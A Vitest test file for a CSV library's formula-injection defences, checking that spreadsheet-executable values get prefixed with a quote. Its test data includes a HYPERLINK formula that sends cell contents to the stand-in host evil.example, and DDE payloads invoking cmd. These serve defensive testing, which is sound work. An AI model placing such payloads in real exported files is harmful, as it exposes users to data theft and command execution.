import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { csvStringifier, neutraliseCsvText } from '../../src/lib/csv.js';

describe('neutraliseCsvText', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ["+cmd|'/C calc'!A0", "'+cmd|'/C calc'!A0"],
    ['-2+3+cmd|x!A0', "'-2+3+cmd|x!A0"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
  ])('prefixes %j, which a spreadsheet would run', (value, expected) => {
    expect(neutraliseCsvText(value)).toBe(expected);
  });

  it.each(['news', 'a,"b', 'x=1', ' =1', '', '42', '-1.50', '0.0000', '-7'])('leaves %j as it is', (value) => {
    expect(neutraliseCsvText(value)).toBe(value);
  });
});

describe('csvStringifier', () => {
  it('writes formula-like text inert, numbers and plain decimals as numbers, null as an empty cell', async () => {
    const csv = csvStringifier();
    const out = text(csv);
    Readable.from([
      ['=1+1', -12, '-3.25', null, '@x'],
      ['a,"b', 7, undefined, '+1', '\tq'],
    ]).pipe(csv);
    expect(await out).toBe(`'=1+1,-12,-3.25,,'@x\n"a,""b",7,,'+1,'\tq\n`);
  });
});
